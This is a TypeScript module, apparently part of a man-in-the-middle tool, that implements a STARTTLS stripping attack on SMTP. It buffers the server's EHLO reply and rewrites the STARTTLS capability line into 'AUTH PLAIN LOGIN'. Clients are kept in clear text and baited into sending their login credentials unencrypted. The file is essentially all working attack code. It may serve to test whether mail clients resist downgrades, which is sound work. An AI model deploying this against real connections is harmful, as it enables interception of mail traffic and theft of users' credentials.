/**
 * The oldest attack on STARTTLS: the keyword disappears from the EHLO reply, and a client that takes what it gets goes
 * on in clear text. As a bait AUTH is offered in its place.
 */
import type { Tamper } from './middleman.ts';

/** What stands where STARTTLS stood. */
export const BAIT = 'AUTH PLAIN LOGIN';

/** One for each connection; it never sees TLS, because TLS never begins. */
export function stripStartTls(): Tamper {
  let held = '';
  return (octets) => {
    held += octets.toString('latin1');
    const whole = held.slice(0, held.lastIndexOf('\n') + 1); // the keyword may come in two pieces
    held = held.slice(whole.length);
    return Buffer.from(whole.replaceAll(/^250([- ])STARTTLS(?=\s*$)/gim, `250$1${BAIT}`), 'latin1');
  };
}
